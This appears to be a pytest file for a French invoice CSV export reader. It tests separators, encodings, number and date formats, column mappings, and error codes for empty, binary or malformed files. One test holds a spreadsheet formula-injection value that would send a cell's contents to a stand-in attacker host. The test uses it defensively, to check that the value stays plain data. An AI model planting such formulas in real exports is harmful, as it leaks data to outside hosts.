"""Real-world export dialects and hostile files: read correctly, or refused with a clear code."""

from __future__ import annotations

import os
from decimal import Decimal
from pathlib import Path

import pytest

from chorusflow.exports import ExportReadError, read_export
from chorusflow.rules import validate_export
from chorusflow_dev.testing.exports import write_export
from tests.rules.builders import BASE_ROW, COMMUNE, row

HEADER = list(BASE_ROW)


def _only_invoice(path: Path, **options: object):  # type: ignore[no-untyped-def]
    report = validate_export(path, **options)  # type: ignore[arg-type]
    assert not report.file_errors, report.file_errors
    assert len(report.invoices) == 1
    verdict = report.invoices[0]
    assert verdict.valid, verdict.errors
    assert verdict.invoice is not None
    return verdict.invoice


@pytest.mark.parametrize("sep", [";", ",", "\t"])
def test_separator_is_detected(tmp_path: Path, sep: str) -> None:
    path = write_export(tmp_path / "e.csv", [row(line_description="Pose, dépose; et réglage")], sep=sep)
    table = read_export(path)
    assert table.separator == sep
    assert _only_invoice(path).lines[0].description == "Pose, dépose; et réglage"


@pytest.mark.parametrize(
    ("encoding", "expected"), [("utf-8", "utf-8-sig"), ("utf-8-sig", "utf-8-sig"), ("cp1252", "cp1252")]
)
def test_encodings(tmp_path: Path, encoding: str, expected: str) -> None:
    text = "Entretien chaufferie – œuvre 12 € été"
    path = write_export(tmp_path / "e.csv", [row(line_description=text)], encoding=encoding)
    table = read_export(path)
    assert table.encoding == expected
    assert table.columns["invoice_number"] == ["F2026-0001"]  # the BOM is not glued to the first header
    assert _only_invoice(path).lines[0].description == text


@pytest.mark.parametrize(
    ("price", "expected"),
    [
        ("1234,56", "1234.56"),
        ("1234.56", "1234.56"),
        ("1 234,56", "1234.56"),
        ("1\u00a0234,56", "1234.56"),
        ("1\u202f234,56", "1234.56"),
        ("1.234,56", "1234.56"),
        ("1,234.56", "1234.56"),
    ],
)
def test_decimal_formats(tmp_path: Path, price: str, expected: str) -> None:
    path = write_export(tmp_path / "e.csv", [row(unit_price=price, quantity="1")])
    invoice = _only_invoice(path)
    assert invoice.lines[0].unit_price == Decimal(expected)
    assert invoice.total_ht == Decimal(expected)


@pytest.mark.parametrize("issue", ["2026-11-02", "02/11/2026"])
def test_date_formats(tmp_path: Path, issue: str) -> None:
    invoice = _only_invoice(write_export(tmp_path / "e.csv", [row(issue_date=issue)]))
    assert invoice.issue_date.isoformat() == "2026-11-02"


def test_siret_with_spaces(tmp_path: Path) -> None:
    invoice = _only_invoice(write_export(tmp_path / "e.csv", [row(buyer_siret="219 900 016 00011")]))
    assert invoice.buyer_siret == COMMUNE


def test_blank_lines_and_quoted_newlines(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    lines = [
        ";".join(HEADER),
        "",
        ";".join(row().values()),
        "  ",
        ";;;;;;;;",
        'F2;2026-11-02;2026-12-02;2026-10-30;21990001600011;"Ligne 1\nLigne 2; suite";1;10;20',
        "",
    ]
    path.write_text("\r\n".join(lines), encoding="utf-8")
    report = validate_export(path)
    assert [verdict.invoice_number for verdict in report.invoices] == ["F2026-0001", "F2"]
    assert all(verdict.valid for verdict in report.invoices)
    second = report.invoices[1].invoice
    assert second is not None and second.lines[0].description == "Ligne 1\nLigne 2; suite"


def test_repeated_header_inside_the_file_is_skipped(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    path.write_text(
        "\n".join(
            [
                ";".join(HEADER),
                ";".join(row().values()),
                ";".join(HEADER),
                ";".join(row(invoice_number="F2").values()),
            ]
        ),
        encoding="utf-8",
    )
    assert [verdict.invoice_number for verdict in validate_export(path).invoices] == ["F2026-0001", "F2"]


def test_formula_like_values_stay_plain_data(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
    invoice = _only_invoice(write_export(tmp_path / "e.csv", [row(line_description=formula)]))
    assert invoice.lines[0].description == formula


def test_french_mapping_is_detected(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    path.write_text(
        "Numéro de facture;Date;Date d'échéance;SIRET client;Code service;N° engagement;Désignation;Quantité;"
        "PU HT;Taux TVA;Total TTC\n"
        "F1;02/11/2026;02/12/2026;219 900 016 00011;;;Entretien;2;100,00;20;240,00\n",
        encoding="cp1252",
    )
    table = read_export(path)
    assert table.mapping_file is not None and table.mapping_file.name == "fr.yaml"
    invoice = _only_invoice(path)
    assert invoice.total_ttc == Decimal("240.00")


def test_explicit_mapping_matches_case_and_accent_insensitively(tmp_path: Path) -> None:
    mapping = tmp_path / "erp.yaml"
    mapping.write_text(
        "columns:\n  invoice_number: Numéro Pièce\n  quantity: [Qté, Quantité livrée]\n", encoding="utf-8"
    )
    headers = ["  NUMERO PIECE ", *HEADER[1:6], "quantite livree", *HEADER[7:]]
    path = tmp_path / "e.csv"
    path.write_text(";".join(headers) + "\n" + ";".join(row().values()) + "\n", encoding="utf-8")
    invoice = _only_invoice(path, mapping=mapping)
    assert invoice.invoice_number == "F2026-0001"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "EXPORT_EMPTY"),
        (b"\n\n  \n", "EXPORT_EMPTY"),
        (";".join(HEADER).encode() + b"\n", "EXPORT_EMPTY"),
        (bytes(range(256)) * 40, "EXPORT_UNREADABLE"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(1, 200)) * 50, "EXPORT_UNREADABLE"),
        (b"invoice_number;issue_date\nF1;2026-01-01\n", "EXPORT_MISSING_COLUMN"),
        (";".join([*HEADER, "quantity"]).encode() + b"\n", "EXPORT_DUPLICATE_COLUMN"),
        (",".join(HEADER).encode().replace(b",", b"|") + b"\n", "EXPORT_MISSING_COLUMN"),
    ],
    ids=[
        "empty",
        "blank",
        "header only",
        "binary",
        "png",
        "missing column",
        "duplicate column",
        "wrong separator",
    ],
)
def test_unusable_files_get_a_file_level_code(tmp_path: Path, content: bytes, code: str) -> None:
    path = tmp_path / "e.csv"
    path.write_bytes(content)
    report = validate_export(path)
    assert [item.code for item in report.file_errors] == [code]
    assert report.invoices == []
    assert report.file_errors[0].message


def test_missing_file_is_unreadable(tmp_path: Path) -> None:
    with pytest.raises(ExportReadError) as caught:
        read_export(tmp_path / "absent.csv")
    assert caught.value.code == "EXPORT_UNREADABLE"


def test_truncated_and_overlong_lines_are_kept(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    good = ";".join(row().values())
    path.write_text(
        "\n".join(
            [
                ";".join(HEADER),
                good,
                "F2;2026-11-02;2026-12-02",
                ";".join(row(invoice_number="F3").values()) + ";extra;fields",
            ]
        ),
        encoding="utf-8",
    )
    codes = {
        verdict.invoice_number: {item.code for item in verdict.errors}
        for verdict in validate_export(path).invoices
    }
    assert codes == {"F2026-0001": set(), "F2": {"FIELD_MISSING"}, "F3": {"ROW_MALFORMED"}}


def test_huge_field_is_reported_not_fatal(tmp_path: Path) -> None:
    path = write_export(tmp_path / "e.csv", [row(line_description="x" * 50_000), row(invoice_number="F2")])
    codes = {
        verdict.invoice_number: {item.code for item in verdict.errors}
        for verdict in validate_export(path).invoices
    }
    assert codes == {"F2026-0001": {"FIELD_TOO_LONG"}, "F2": set()}
    assert all(
        len(item.message) < 500 for verdict in validate_export(path).invoices for item in verdict.errors
    )


def test_control_characters_in_numbers_are_shown_safely(tmp_path: Path) -> None:
    path = write_export(tmp_path / "e.csv", [row(invoice_number="F 1\x1b[31m")])
    verdict = validate_export(path).invoices[0]
    assert [item.code for item in verdict.errors] == ["INVOICE_NUMBER_FORMAT"]
    assert "\x1b" not in verdict.errors[0].message


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root reads any file")
def test_unreadable_permissions(tmp_path: Path) -> None:
    path = write_export(tmp_path / "e.csv", [row()])
    path.chmod(0)
    try:
        report = validate_export(path)
        assert [item.code for item in report.file_errors] == ["EXPORT_UNREADABLE"]
    finally:
        path.chmod(0o644)


@pytest.mark.parametrize(
    "text",
    [
        "columns: {montant: PU HT}\n",
        "columns: [a, b]\n",
        "columns: {quantity: []}\n",
        "columns: {quantity: [unclosed\n",
    ],
    ids=["unknown canonical", "not a mapping", "empty list", "bad YAML"],
)
def test_broken_mapping_is_a_file_level_error(tmp_path: Path, text: str) -> None:
    mapping = tmp_path / "erp.yaml"
    mapping.write_text(text, encoding="utf-8")
    report = validate_export(write_export(tmp_path / "e.csv", [row()]), mapping=mapping)
    assert [item.code for item in report.file_errors] == ["MAPPING_INVALID"]
    assert "erp.yaml" in report.file_errors[0].message


def test_valid_mapping_file_is_not_an_error(tmp_path: Path) -> None:
    mapping = tmp_path / "erp.yaml"
    mapping.write_text("columns:\n  quantity: Qté\n", encoding="utf-8")
    report = validate_export(write_export(tmp_path / "e.csv", [row()]), mapping=mapping)
    assert report.file_errors == [] and report.invoices[0].valid


def test_values_are_stripped_of_any_whitespace_in_the_columns_that_hold_some(tmp_path: Path) -> None:
    padded = row(
        invoice_number=" F1\t",
        issue_date="2026-01-05\u00a0",
        buyer_siret=f"\u202f{COMMUNE}",
        line_description="  Pose  ",
    )
    plain = row(invoice_number="F2", line_description="Dépose")
    table = read_export(write_export(tmp_path / "e.csv", [padded, plain]))
    assert table.columns["invoice_number"] == ["F1", "F2"]
    assert table.columns["issue_date"] == ["2026-01-05", plain["issue_date"]]
    assert table.columns["buyer_siret"] == [COMMUNE, plain["buyer_siret"]]
    assert table.columns["line_description"] == ["Pose", "Dépose"]
    # A column with no whitespace anywhere is kept as read.
    assert table.columns["unit_price"] == [padded["unit_price"], plain["unit_price"]]
